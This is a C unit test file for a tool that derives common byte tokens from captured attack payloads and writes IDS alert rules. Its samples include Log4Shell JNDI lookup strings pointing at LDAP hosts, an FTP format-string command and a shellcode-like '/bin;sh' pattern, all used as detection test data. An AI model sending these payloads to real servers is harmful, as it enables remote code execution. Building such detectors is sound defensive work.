/* SPDX-License-Identifier: Apache-2.0 */
/* What payloads have in common: by example, and against every piece tried one by one. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/out.h"
#include "rules/propose.h"

enum { SAMPLES = 5, LEN_MAX = 64, ROUNDS = 3000 };

static struct propose_sample sample_of(const char *text)
{
	return (struct propose_sample){ (const uint8_t *)text, strlen(text) };
}

static void check_token(const struct propose_token *t, const char *text)
{
	if (t->len != strlen(text) || memcmp(t->bytes, text, t->len) != 0)
		fail_msg("\"%.*s\" is not \"%s\"", (int)t->len, (const char *)t->bytes, text);
}

static void test_common(void **state)
{
	const struct propose_sample chosen[] = {
		sample_of("GET /a?x=${jndi:ldap://10.0.0.1/Exploit} HTTP/1.1\r\nHost: one\r\n"),
		sample_of("GET /bcd?y=${jndi:ldap://10.9.9.9/Exploit} HTTP/1.1\r\nHost: two\r\n"),
	};
	const struct propose_sample background[] = {
		sample_of("GET /index.html HTTP/1.1\r\nHost: three\r\n"),
		sample_of("GET /b HTTP/1.1\r\nHost: four\r\n"),
	};
	struct propose_token token[PROPOSE_TOKENS_MAX];
	int n = propose_tokens(chosen, 2, background, 2, token);

	(void)state;
	assert_int_equal(n, 3);
	check_token(&token[0], "GET /");
	check_token(&token[1], "=${jndi:ldap://10.");
	check_token(&token[2], "/Exploit} HTTP/1.1\r\nHost: ");
	assert_int_equal(token[0].foreign, 2);
	assert_int_equal(token[1].foreign, 0);
	assert_true(token[0].fixed);
	assert_int_equal(token[0].at, 0);
	assert_false(token[1].fixed);
	for (int i = 0; i < 2; i++) {
		assert_true(propose_matches(token, (size_t)n, &chosen[i]));
		assert_false(propose_matches(token, (size_t)n, &background[i]));
	}
}

static void test_one(void **state)
{
	const struct propose_sample chosen = sample_of("USER anonymous\r\nSITE EXEC %p%p%p%n\r\n");
	struct propose_token token[PROPOSE_TOKENS_MAX];

	(void)state;
	assert_int_equal(propose_tokens(&chosen, 1, NULL, 0, token), 1);
	check_token(&token[0], "USER anonymous\r\nSITE EXEC %p%p%p%n\r\n");
	assert_false(token[0].fixed);
}

static void test_nothing(void **state)
{
	const struct propose_sample chosen[] = { sample_of("abcdefgh"), sample_of("abXXefYY"),
		sample_of("") };
	struct propose_token token[PROPOSE_TOKENS_MAX];

	(void)state;
	assert_int_equal(propose_tokens(chosen, 2, NULL, 0, token), 0);
	assert_int_equal(propose_tokens(chosen, 3, NULL, 0, token), 0);
	assert_int_equal(propose_tokens(chosen, 0, NULL, 0, token), -22);
	assert_false(propose_matches(token, 0, &chosen[0]));
}

static void test_written(void **state)
{
	const struct propose_token token[] = {
		{ .bytes = (const uint8_t *)"\x90\x90/bin;sh", .len = 9, .fixed = true, .at = 3 },
		{ .bytes = (const uint8_t *)"end\xff", .len = 4 },
	};
	const struct propose_rule rule = { "tcp", "$EXTERNAL_NET", "$HONEYNET", 21, true,
		"Seen; on flow 7", 1 };
	char line[512];
	struct out o = out_make(line, sizeof(line));

	(void)state;
	propose_write(&o, &rule, token, 2);
	assert_true(out_ok(&o));
	assert_string_equal(line,
		"alert tcp $EXTERNAL_NET any -> $HONEYNET 21 (msg:\"Seen. on flow 7\"; "
		"flow:established,to_server; content:\"|90 90|/bin|3B|sh\"; offset:3; depth:9; "
		"content:\"end|FF|\"; distance:0; classtype:misc-attack; sid:1; rev:1;)");
}

static bool has(const struct propose_sample *s, const uint8_t *bytes, size_t len)
{
	return memmem(s->bytes, s->len, bytes, len) != NULL;
}

/* Longest piece of the first that all have, one by one. */
static size_t longest_common(const struct propose_sample *sample, size_t n)
{
	size_t longest = 0;

	for (size_t at = 0; at < sample[0].len; at++)
		for (size_t len = longest + 1; at + len <= sample[0].len; len++) {
			bool all = true;

			for (size_t i = 1; i < n && all; i++)
				all = has(&sample[i], sample[0].bytes + at, len);
			if (!all)
				break;
			longest = len;
		}
	return longest;
}

static void test_random(void **state)
{
	uint8_t bytes[SAMPLES][LEN_MAX];
	struct propose_sample sample[SAMPLES];
	struct propose_token token[PROPOSE_TOKENS_MAX];

	(void)state;
	srandom(1);
	for (int round = 0; round < ROUNDS; round++) {
		size_t n = 2 + (size_t)random() % (SAMPLES - 1), longest, found = 0;
		int r;

		for (size_t i = 0; i < n; i++) {
			sample[i] =
				(struct propose_sample){ bytes[i], 1 + (size_t)random() % LEN_MAX };
			for (size_t at = 0; at < sample[i].len; at++)
				bytes[i][at] = (uint8_t)("ab"[random() % 2]);
		}
		longest = longest_common(sample, n);
		r = propose_tokens(sample, n, NULL, 0, token);
		assert_true(r >= 0);
		for (int i = 0; i < r; i++)
			found = token[i].len > found ? token[i].len : found;
		assert_int_equal(found, longest >= PROPOSE_TOKEN_MIN ? longest : 0);
		for (size_t i = 0; i < n && r > 0; i++)
			assert_true(propose_matches(token, (size_t)r, &sample[i]));
	}
}

/* The largest input does not take long. */
static void test_large(void **state)
{
	static uint8_t bytes[2][4 * PROPOSE_SAMPLE_MAX];
	struct propose_sample sample[2] = { { bytes[0], sizeof(bytes[0]) },
		{ bytes[1], sizeof(bytes[1]) } };
	struct propose_token token[PROPOSE_TOKENS_MAX];

	(void)state;
	assert_int_equal(propose_tokens(sample, 2, NULL, 0, token), PROPOSE_TOKENS_MAX);
	for (size_t i = 0; i < sizeof(bytes[0]); i++)
		bytes[i % 2][i] = (uint8_t)random();
	assert_true(propose_tokens(sample, 2, sample, 2, token) >= 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_common),
		cmocka_unit_test(test_one),
		cmocka_unit_test(test_nothing),
		cmocka_unit_test(test_written),
		cmocka_unit_test(test_random),
		cmocka_unit_test(test_large),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
